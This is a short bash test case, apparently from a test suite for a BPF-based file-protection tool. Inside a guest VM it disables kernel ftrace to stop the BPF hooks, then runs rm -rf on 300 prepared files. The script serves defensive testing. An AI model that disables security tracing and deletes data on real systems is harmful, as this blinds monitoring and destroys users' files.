# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154
# tries: ftrace_enabled 0, by which BPF hooks are called, then rm
# class: tamper
# where: guest
# limit: 25
# total: 300

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

prepare() {
	[[ -e /proc/sys/kernel/ftrace_enabled ]] || cannot 'no ftrace_enabled'
	"$TOOLS/files" make "$DATA" 300
}

attack() {
	echo 0 >/proc/sys/kernel/ftrace_enabled
	rm -rf "$DATA"
}

restore() {
	echo 1 >/proc/sys/kernel/ftrace_enabled
}
